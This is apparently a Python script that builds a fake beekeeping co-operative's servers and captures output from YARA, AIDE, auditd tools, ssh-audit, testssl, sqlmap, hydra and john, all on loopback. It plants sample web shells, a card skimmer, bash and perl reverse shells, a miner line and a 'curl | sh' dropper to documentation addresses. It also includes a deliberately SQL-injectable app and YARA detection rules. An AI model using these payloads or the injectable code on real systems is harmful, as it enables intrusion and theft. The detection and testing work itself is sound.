"""Round 192's host security items (third samples of round 102's kinds, its extractors imported), for `apiary`, a
beekeeping co-operative's servers: YARA rules written here over a copy of its servers (a seeded generator plants
cloud tokens, web shells, a card skimmer, miners and reverse shells among hive logs and orders) and rule drafts that do
not compile, AIDE over its config tree (init, a quiet change, then a swarm of changes), audit logs generated here in
the kernel's record format (ausearch, aureport), ssh-audit against sshd on a high loopback port, testssl.sh against
`openssl s_server` on 127.0.0.1, sqlmap and hydra against a small hive-records app of its own, john on weak md5crypt
hashes made here. Run through capture_wide192.py."""

from __future__ import annotations

import os
import random
import shutil
from pathlib import Path

import capture_more as cm
from capture_more import run, write_tree
from capture_data import free_port, wait_port
from capture_wide192 import cap
from capture_wide102_host import (n_aide_check, n_aide_init, n_aureport_report, n_aureport_summary, n_ausearch,
                                  n_john_crack, n_john_test, n_yara_compile, n_yara_scan)
from capture_wide102_net import n_hydra, n_sqlmap, n_ssh_audit, n_testssl

WORDS = ("hive frame brood comb wax queen drone worker nectar pollen smoker super extractor swarm varroa apiary "
         "propolis jar feeder colony").split()

YARA_RULES = r'''
rule Api_Slack_Token : secret chat
{
    meta:
        severity = "high"
    strings:
        $t = /xox[bp]-[0-9]{11}-[0-9A-Za-z]{24}/
    condition:
        $t
}

rule Api_Github_Token : secret scm
{
    meta:
        severity = "critical"
    strings:
        $g = /ghp_[0-9A-Za-z]{36}/
    condition:
        $g
}

rule Api_PHP_Eval_Shell : webshell
{
    strings:
        $a = "eval(gzinflate(base64_decode("
        $b = "system($_GET["
        $c = "preg_replace(\"/.*/e\""
    condition:
        any of them
}

rule Api_Card_Skimmer : skimmer
{
    strings:
        $s1 = "document.querySelector('#card-number')"
        $s2 = "new Image().src='//"
    condition:
        all of them
}

rule Api_Perl_Reverse : backdoor
{
    strings:
        $p = "perl -e 'use Socket;$i=\""
        $b = /bash -i >& \/dev\/tcp\/[0-9.]+\/\d+ 0>&1/
    condition:
        any of them
}

rule Api_Miner : miner
{
    meta:
        severity = "medium"
    strings:
        $m1 = "stratum+tcp://"
        $m2 = "--cpu-priority"
    condition:
        any of them
}
'''

# rule drafts that do not compile, one mistake a file (YARA stops at a file's first errors)
YARA_DRAFTS = {
    "rules/drafts/beacon.yar": """
rule Draft_Queen_Beacon : backdoor
{
    strings:
        $u = "beacon.php?hive="
    condition:
        $u and $missing
}
""",
    "rules/drafts/regex.yar": """
rule Draft_Jar_Regex
{
    strings:
        $r = /jar[0-9]{2,/
    condition:
        $r
}
""",
    "rules/drafts/size.yar": """
rule Draft_Elf_Miner : miner
{
    condition:
        uint32(0) == 0x464c457f and filesize < 2ZB
}
""",
    "rules/drafts/module.yar": """
import "beehive"

rule Draft_Module
{
    condition:
        beehive.frames > 10
}
""",
    "rules/drafts/slow.yar": """
rule Draft_Slow_Hex
{
    strings:
        $h = { ?? ?? 00 }
        $w = "wax"
    condition:
        $h or $w
}
""",
    "rules/drafts/unused.yar": """
rule Draft_Unreferenced
{
    strings:
        $a = "propolis"
        $b = "nectar"
    condition:
        $a
}
""",
}

YARA_DUP = r'''
rule Api_Miner
{
    strings:
        $x = "xmrig"
    condition:
        $x
}
'''


def make_srv(root: Path, seed: int, n: int) -> None:
    rng = random.Random(seed)
    dirs = ["var/www/shop", "var/www/shop/uploads", "var/www/shop/js", "srv/hivelog", "opt/apiary/bin",
            "opt/apiary/etc", "home/keeper", "home/queen", "tmp/.x"]
    alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    plants = [
        lambda: "SLACK=xoxb-%011d-%s" % (rng.randrange(10 ** 11), "".join(rng.choice(alnum) for _ in range(24))),
        lambda: "token: ghp_" + "".join(rng.choice(alnum) for _ in range(36)),
        lambda: "<?php eval(gzinflate(base64_decode('%s'))); ?>" % "".join(rng.choice(alnum) for _ in range(20)),
        lambda: "<?php system($_GET['%s']); ?>" % rng.choice(WORDS),
        lambda: ("var c=document.querySelector('#card-number').value;new Image().src='//198.51.100.%d/p?c='+c;"
                 % rng.randrange(1, 255)),
        lambda: "perl -e 'use Socket;$i=\"203.0.113.%d\";$p=%d;'" % (rng.randrange(1, 255), rng.choice([53, 4444])),
        lambda: "bash -i >& /dev/tcp/192.0.2.%d/%d 0>&1" % (rng.randrange(1, 255), rng.choice([9001, 1337])),
        lambda: "./nectard -o stratum+tcp://pool.example.net:3333 --cpu-priority 5",
    ]
    for i in range(n):
        body = [" ".join(rng.choice(WORDS) for _ in range(rng.randrange(4, 11))) for _ in range(rng.randrange(3, 26))]
        if rng.random() < 0.35:
            for _ in range(rng.choice([1, 1, 1, 2])):
                body.insert(rng.randrange(len(body) + 1), rng.choice(plants)())
        p = root / rng.choice(dirs) / f"{rng.choice(WORDS)}_{i:04d}{rng.choice(['.php', '.js', '.pl', '.conf', '.log', '.txt'])}"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("\n".join(body) + "\n")


def cap_yara(tmp: Path) -> None:
    d = tmp / "yara"
    write_tree(d, {"rules/apiary.yar": YARA_RULES, "rules/dup.yar": YARA_DUP, **YARA_DRAFTS})
    make_srv(d / "srv", 19201, 480)
    make_srv(d / "srv-shop", 19202, 90)
    cap("yara-s-r-srv-tail", "yara -s -r rules/apiary.yar srv/ 2>&1 | tail -n 120", d, n_yara_scan)
    cap("yara-r-g-m-shop-echo", "yara -r -g -m rules/apiary.yar srv-shop/; echo EXIT=$?", d, n_yara_scan)
    cap("yara-drafts-loop-dup-echo", "for f in rules/drafts/*.yar; do echo \"== $f\"; yara -w $f srv-shop/ "
        "| head -n 3; yarac $f draft.yarc; echo EXIT=$?; done; yarac rules/apiary.yar "
        "rules/dup.yar apiary.yarc; echo EXIT=$?", d, n_yara_compile)


AIDE_CONF = """database_in=file:{d}/aide.db
database_out=file:{d}/aide.db.new
gzip_dbout=no
report_url=stdout
Hive = p+u+g+s+m+sha256
{d}/etc Hive
{d}/opt Hive
!{d}/opt/apiary/cache
"""


def cap_aide(tmp: Path) -> None:
    d = tmp / "aide"
    d.mkdir(parents=True)
    (d / "aide.conf").write_text(AIDE_CONF.format(d=d))
    rng = random.Random(19203)
    files = []
    for i in range(380):
        sub = rng.choice(["etc/apiary", "etc/apiary/hives.d", "etc/nginx/conf.d", "opt/apiary/bin", "opt/apiary/lib",
                          "opt/apiary/share"])
        p = d / sub / f"{rng.choice(WORDS)}.{i:03d}.{rng.choice(['ini', 'so', 'pl', 'json', 'conf'])}"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("\n".join(f"{rng.choice(WORDS)} {rng.randrange(3000)}" for _ in range(rng.randrange(2, 25))))
        files.append(p)
    cap("aide-init-hives", "aide --config=aide.conf --init; echo EXIT=$?", d, n_aide_init, timeout=300)
    shutil.move(d / "aide.db.new", d / "aide.db")
    files[7].write_text(files[7].read_text() + "\nallow 0.0.0.0/0\n")
    (d / "opt/apiary/bin/.smoker").write_text("curl -s http://203.0.113.9/s | sh\n")
    files[90].unlink()
    cap("aide-check-quiet-echo", "aide --config=aide.conf --check; echo EXIT=$?", d, n_aide_check)
    for p in rng.sample(files, 85):
        if p.exists():
            p.write_text(p.read_text() + f"\n# {rng.choice(WORDS)} {rng.randrange(99)}\n")
    for p in rng.sample(files, 20):
        if p.exists():
            p.chmod(0o766)
    for p in rng.sample(files, 24):
        p.unlink(missing_ok=True)
    for i in range(28):
        (d / rng.choice(["opt/apiary/lib", "etc/apiary/hives.d", "opt/apiary/bin"]) / f".{rng.choice(WORDS)}{i}"
         ).write_text("drop %d\n" % i)
    cap("aide-check-swarm", "aide -c aide.conf --check", d, n_aide_check)


def make_audit_log(path: Path, seed: int, n: int) -> None:
    rng = random.Random(seed)
    t, serial = 1765100000.0, 73000
    watched = [("/etc/apiary/orders.ini", "orders-conf"), ("/etc/shadow", "shadow"), ("/etc/sudoers", "sudoers"),
               ("/var/lib/apiary/hives.db", "hives-db")]
    exes = ["/usr/bin/vim.basic", "/usr/bin/cat", "/usr/bin/perl", "/opt/apiary/bin/hived", "/usr/bin/less"]
    users = [1601, 1602, 1603, 1604, 1605]
    addrs = ["10.20.0.%d" % i for i in (4, 5, 17)] + ["203.0.113.%d" % i for i in (8, 61, 190)]
    out = []
    intruder = (n // 5, n // 2, 4 * n // 5)  # a dropper under /tmp/.x reads /etc/shadow three times
    guessed = (n // 3, n // 3 + 4)  # an outside host guesses an account nobody has
    for ev in range(n):
        t += rng.uniform(2, 200)
        serial += 1
        st = f"audit({t:.3f}:{serial})"
        r = rng.random()
        if ev in intruder:
            r = 0.0
        elif ev in guessed:
            r = 0.5
        if r < 0.45:
            f, key = rng.choices(watched, weights=[7, 2, 1, 2])[0]
            uid = rng.choices(users + [0], weights=[8, 2, 1, 1, 1, 1])[0]
            ok = uid == 0 or rng.random() < 0.45
            exe = rng.choices(exes, weights=[1, 1, 1, 7, 1])[0]
            if ev in intruder:
                f, key, exe, uid, ok = "/etc/shadow", "shadow", "/tmp/.x/kworkerd", 1699, False
            res = "success=yes exit=3" if ok else "success=no exit=-13"
            out.append(f"type=SYSCALL msg={st}: arch=c000003e syscall=257 {res} a0=ffffff9c a1=7ffe a2=0 a3=0 items=1 "
                       f"ppid={rng.randrange(400, 900)} pid={rng.randrange(2000, 40000)} auid={uid} uid={uid} "
                       f"gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 "
                       f"ses={rng.randrange(1, 9)} comm=\"{exe.rsplit('/', 1)[1][:15]}\" exe=\"{exe}\" "
                       f"subj=unconfined key=\"{key}\"")
            out.append(f"type=CWD msg={st}: cwd=\"/home/keeper\"")
            out.append(f"type=PATH msg={st}: item=0 name=\"{f}\" inode={rng.randrange(100, 90000)} dev=fd:01 "
                       f"mode=0100640 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 "
                       f"cap_frootid=0")
        elif r < 0.75:
            acct = rng.choices(["keeper", "queen", "root", "admin", "ubuntu"], weights=[18, 4, 2, 1, 1])[0]
            if ev in guessed:
                acct = "postgres"
            addr = rng.choice(addrs)
            ok = addr.startswith("10.") and acct in ("keeper", "queen")
            typ = rng.choice(["USER_AUTH", "USER_LOGIN", "USER_AUTH", "USER_ACCT"])
            op = {"USER_AUTH": "PAM:authentication", "USER_ACCT": "PAM:accounting"}.get(typ, "login")
            out.append(f"type={typ} msg={st}: pid={rng.randrange(2000, 40000)} uid=0 auid=4294967295 ses=4294967295 "
                       f"subj=unconfined msg='op={op} acct=\"{acct}\" exe=\"/usr/sbin/sshd\" hostname={addr} "
                       f"addr={addr} terminal=ssh res={'success' if ok else 'failed'}'")
        elif r < 0.92:
            uid = rng.choice(users)
            cmd = rng.choice(["/usr/bin/systemctl restart hived", "/usr/bin/journalctl -u hived",
                              "/usr/bin/apt install varroa-tools", "/usr/bin/cat /etc/apiary/orders.ini"])
            out.append(f"type=USER_CMD msg={st}: pid={rng.randrange(2000, 40000)} uid={uid} auid={uid} ses=3 "
                       f"subj=unconfined msg='cwd=\"/home/keeper\" cmd={cmd.encode().hex().upper()} terminal=pts/0 "
                       f"res={'success' if rng.random() < 0.8 else 'failed'}'")
        elif r < 0.985:
            out.append(f"type=SERVICE_START msg={st}: pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined "
                       f"msg='unit=hived comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? "
                       f"terminal=? res={'success' if rng.random() < 0.75 else 'failed'}'")
        else:
            out.append(f"type=ANOM_ABEND msg={st}: auid=1603 uid=1603 gid=1603 ses=3 subj=unconfined "
                       f"pid={rng.randrange(2000, 40000)} comm=\"hived\" exe=\"/opt/apiary/bin/hived\" sig=11 res=1")
    path.write_text("\n".join(out) + "\n")


def cap_audit(tmp: Path) -> None:
    d = tmp / "audit"
    d.mkdir(parents=True)
    make_audit_log(d / "audit.log", 19204, 600)
    make_audit_log(d / "audit.log.1", 19205, 140)
    L = "-if audit.log"
    cap("ausearch-k-orders-conf-head", f"ausearch {L} -i -k orders-conf | head -n 150", d, n_ausearch)
    cap("ausearch-x-hived-failed-echo", f"ausearch {L} -i -x /opt/apiary/bin/hived --success no; echo EXIT=$?", d,
        n_ausearch)
    cap("aureport-summary-rotated", "aureport -if audit.log.1 --summary -i; aureport -if audit.log.1 --failed "
        "--summary; echo EXIT=$?", d, n_aureport_summary)
    cap("aureport-f-i-failed-keys", f"aureport {L} -f -i --failed", d, n_aureport_report)
    cap("aureport-au-failed-grep", f"aureport {L} -au -i --failed | grep -v '^$'", d, n_aureport_report)


SSHD_CONF = """Port {port}
ListenAddress 127.0.0.1
HostKey {d}/{key}
PidFile {d}/sshd-{port}.pid
UsePAM no
{extra}
"""


def cap_ssh(tmp: Path) -> None:
    d = tmp / "ssh"
    d.mkdir(parents=True)
    Path("/run/sshd").mkdir(exist_ok=True)
    run("ssh-keygen -q -t rsa -b 1024 -N '' -f host_rsa && ssh-keygen -q -t ed25519 -N '' -f host_ed25519", cwd=d)
    old, new = free_port(), free_port()
    (d / "old.conf").write_text(SSHD_CONF.format(port=old, d=d, key="host_rsa", extra=(
        "KexAlgorithms +diffie-hellman-group1-sha1,diffie-hellman-group14-sha1\n"
        "Ciphers +aes128-cbc,3des-cbc\nMACs +hmac-sha1,hmac-md5\nHostKeyAlgorithms +ssh-rsa")))
    (d / "new.conf").write_text(SSHD_CONF.format(port=new, d=d, key="host_ed25519", extra=(
        "KexAlgorithms sntrup761x25519-sha512@openssh.com,curve25519-sha256,diffie-hellman-group16-sha512\n"
        "Ciphers chacha20-poly1305@openssh.com,aes256-gcm@openssh.com,aes128-ctr\n"
        "MACs hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com")))
    for conf in ("old.conf", "new.conf"):
        cm.start(f"/usr/sbin/sshd -D -e -f {d / conf}", cwd=d, log=open(d / f"{conf}.log", "w"))
    if not (wait_port(old) and wait_port(new)):
        cm.note("skip ssh-audit: sshd did not start: " + (d / "old.conf.log").read_text()[:300])
        return
    cap("ssh-audit-rsa1024-legacy", f"ssh-audit -p {old} 127.0.0.1", d, n_ssh_audit)
    cap("ssh-audit-ed25519-grep-echo", f"ssh-audit -p {new} 127.0.0.1 | grep -E 'fail|warn|rec|gen'; echo EXIT=$?",
        d, n_ssh_audit)


def cap_tls(tmp: Path) -> None:
    d = tmp / "tls"
    d.mkdir(parents=True)
    (d / "empty.cnf").write_text("")
    env = {"OPENSSL_CONF": str(d / "empty.cnf")}
    run(f"openssl req -x509 -newkey rsa:1024 -sha1 -keyout {d}/shop.key -out {d}/shop.pem -days 2 -nodes "
        "-subj /CN=shop.apiary.test", cwd=d, env=env)
    if not (d / "shop.key").exists():
        cm.note("skip testssl: no key")
        return
    port = free_port()
    cm.start(f"openssl s_server -accept 127.0.0.1:{port} -cert shop.pem -key shop.key -www -no_tls1_3 "
             "-cipher 'AES256-SHA:CAMELLIA128-SHA:ECDHE-RSA-AES128-SHA:@SECLEVEL=0'", cwd=d, env=env,
             log=open(d / "s.log", "w"))
    if not wait_port(port, 30):
        cm.note("skip testssl: s_server did not start: " + (d / "s.log").read_text()[:300])
        return
    cap("testssl-shop-p-S-h-echo", f"testssl --color 0 --warnings batch -p -S -h 127.0.0.1:{port}; echo EXIT=$?", d,
        n_testssl, timeout=400)


APP = r'''
import html, sqlite3, sys, urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
DB = sys.argv[2]
class H(BaseHTTPRequestHandler):
    def send(self, code, body):
        data = body.encode()
        self.send_response(code); self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(data))); self.end_headers(); self.wfile.write(data)
    def do_GET(self):
        u = urllib.parse.urlparse(self.path)
        q = dict(urllib.parse.parse_qsl(u.query))
        con = sqlite3.connect(DB)
        try:
            if u.path == "/hive":
                # bug: the site name is pasted into the SQL text
                rows = con.execute("SELECT hive, site, frames FROM hives WHERE site = '%s'" % q.get("site", "")).fetchall()
            elif u.path == "/login":
                return self.send(200, "<form method=post><input name=u><input name=p type=password></form>")
            else:
                return self.send(404, "not found")
        except sqlite3.Error as e:
            return self.send(500, "<h1>Hive records error</h1><pre>%s</pre>" % html.escape(str(e)))
        finally:
            con.close()
        self.send(200, "<table>" + "".join("<tr>%s</tr>" % "".join("<td>%s</td>" % html.escape(str(c)) for c in r)
                                           for r in rows) + "</table>")
    def do_POST(self):
        n = int(self.headers.get("Content-Length", "0"))
        q = dict(urllib.parse.parse_qsl(self.rfile.read(n).decode()))
        con = sqlite3.connect(DB)
        row = con.execute("SELECT name FROM keepers WHERE login = ? AND pw = ?", (q.get("u", ""), q.get("p", ""))).fetchone()
        con.close()
        if row:
            return self.send(200, "<p>hello %s</p>" % html.escape(row[0]))
        self.send(200, "<p>wrong keeper or password</p>")
    def log_message(self, *a):
        pass
ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
'''

SITES = ["Heather Hill", "Orchard Row", "Clover Bank", "Lime Walk", "Mill Meadow", "Gorse End"]
WEAK = ["honey123", "beekeeper", "queenbee", "password1", "Swarm2025", "propolis"]


def cap_app(tmp: Path) -> None:
    import sqlite3
    d = tmp / "app"
    d.mkdir(parents=True)
    write_tree(d, {"app.py": APP})
    rng = random.Random(19206)
    con = sqlite3.connect(d / "hives.db")
    con.executescript("CREATE TABLE hives (hive TEXT, site TEXT, frames INTEGER);"
                      "CREATE TABLE keepers (login TEXT, name TEXT, role TEXT, pw TEXT);"
                      "CREATE TABLE sales (jar TEXT, price REAL);")
    for i in range(40):
        con.execute("INSERT INTO hives VALUES (?,?,?)", (f"H{i:03d}", rng.choice(SITES), rng.randrange(4, 21)))
    creds = []
    for i in range(10):
        login = f"{rng.choice(['keeper', 'queen', 'drone', 'scout'])}{i}"
        role = "chair" if i == 1 else "treasurer" if i == 6 else "member"
        pw = WEAK[i % len(WEAK)] if i % 3 == 0 else "".join(rng.choice("abcdefghkmnpqrstuvwxyz2345679") for _ in range(11))
        con.execute("INSERT INTO keepers VALUES (?,?,?,?)", (login, login.title(), role, pw))
        creds.append(login)
    for i in range(15):
        con.execute("INSERT INTO sales VALUES (?,?)", (f"J{i}", rng.randrange(4, 15)))
    con.commit()
    con.close()
    port = free_port()
    cm.start(["python3", "app.py", str(port), str(d / "hives.db")], cwd=d)
    if not wait_port(port):
        cm.note("skip app: did not start")
        return
    base = f"http://127.0.0.1:{port}"
    env = {"HOME": str(d)}
    sq = "sqlmap --batch --output-dir=out"
    cap("sqlmap-hive-site-dump-keepers", f"{sq} -u '{base}/hive?site=Lime+Walk' -T keepers --dump", d, n_sqlmap,
        env=env, timeout=600)
    cap("sqlmap-hive-site-dbs-tail", f"{sq} -u '{base}/hive?site=Lime+Walk' --tables 2>&1 | tail -n 60; echo EXIT=$?",
        d, n_sqlmap, env=env, timeout=600)
    (d / "users.txt").write_text("\n".join(creds) + "\nbeemaster\n")
    words = WEAK + [f"{rng.choice(WORDS)}{rng.randrange(100)}" for _ in range(40)]
    rng.shuffle(words)
    (d / "pass.txt").write_text("\n".join(words) + "\n")
    form = "/login:u=^USER^&p=^PASS^:F=wrong keeper"
    cap("hydra-form-keepers", f"hydra -I -L users.txt -P pass.txt -s {port} -t 4 127.0.0.1 http-post-form '{form}'",
        d, n_hydra, timeout=400)
    closed = free_port()
    cap("hydra-closed-ssh-echo", f"hydra -I -l keeper0 -P pass.txt -s {closed} -t 2 127.0.0.1 ssh; echo EXIT=$?", d,
        n_hydra, timeout=200)


def cap_john(tmp: Path) -> None:
    d = tmp / "john"
    d.mkdir(parents=True)
    env = {"HOME": str(d), "OMP_NUM_THREADS": "1"}
    rng = random.Random(19207)
    names = [f"{w}{i}" for i, w in enumerate(rng.choices(["keeper", "queen", "scout", "drone", "nurse"], k=22))]
    lines = []
    for i, user in enumerate(names):
        pw = WEAK[i % len(WEAK)] if i % 4 == 0 else (user if i % 9 == 2 else
                                                     "".join(rng.choice("abcdefghjkmnpqrstuvwxyzABCDEFGH23456789#")
                                                             for _ in range(13)))
        salt = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))
        h = run(f"openssl passwd -1 -salt {salt} '{pw}'").strip()
        lines.append(f"{user}:{h}:{1600 + i}:{1600 + i}:{user.title()}:/home/{user}:/bin/bash")
    (d / "shadow.txt").write_text("\n".join(lines) + "\n")
    words = WEAK + [f"{rng.choice(WORDS)}{rng.randrange(100)}" for _ in range(1200)]
    rng.shuffle(words)
    (d / "words.txt").write_text("\n".join(words) + "\n")
    # john 1.9 keeps its pot in root's ~/.john whatever HOME says: set any pot aside and put it back after
    jdir = Path(os.path.expanduser("~root/.john")) if os.geteuid() == 0 else Path.home() / ".john"
    had_dir, pot = jdir.exists(), jdir / "john.pot"
    saved = jdir / "john.pot.before-wide192"
    if pot.exists():
        pot.rename(saved)
    try:
        cap("john-test-0-formats-echo", "for f in md5crypt sha512crypt descrypt raw-md5 raw-sha256; do "
            "john --test=0 --format=$f; done; echo EXIT=$?", d, n_john_test, env=env, timeout=300)
        cap("john-wordlist-show-echo", "john --wordlist=words.txt --format=md5crypt shadow.txt; echo EXIT=$?; "
            "john --show shadow.txt", d, n_john_crack, env=env, timeout=400)
    finally:
        pot.unlink(missing_ok=True)
        (jdir / "john.rec").unlink(missing_ok=True)
        if saved.exists():
            saved.rename(pot)
        elif not had_dir:
            shutil.rmtree(jdir, ignore_errors=True)


STEPS = [cap_yara, cap_aide, cap_audit, cap_ssh, cap_tls, cap_app, cap_john]
